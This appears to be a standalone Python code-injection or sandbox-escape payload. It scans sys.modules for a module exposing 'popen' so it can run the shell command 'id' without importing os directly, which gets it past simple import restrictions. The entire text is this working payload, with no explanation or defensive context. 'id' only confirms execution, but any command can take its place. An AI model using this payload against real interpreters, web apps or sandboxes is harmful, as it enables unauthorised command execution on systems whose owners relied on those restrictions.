import sys
[m for m in sys.modules.values() if hasattr(m, 'popen')][0].popen('id')
